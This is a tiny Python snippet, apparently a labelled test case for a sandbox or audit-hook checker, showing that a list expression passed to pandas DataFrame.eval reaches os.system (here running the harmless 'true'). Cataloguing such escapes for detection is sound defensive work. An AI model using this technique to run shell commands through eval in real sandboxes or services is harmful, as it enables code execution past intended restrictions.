# class: pandas-strings
# mechanism: eval of a table
# how: expression in a list
# reaches: event os.system
import pandas as pd
df = pd.DataFrame({"a": [0]})
df.eval(["@pd.io.common.os.system('true')"])
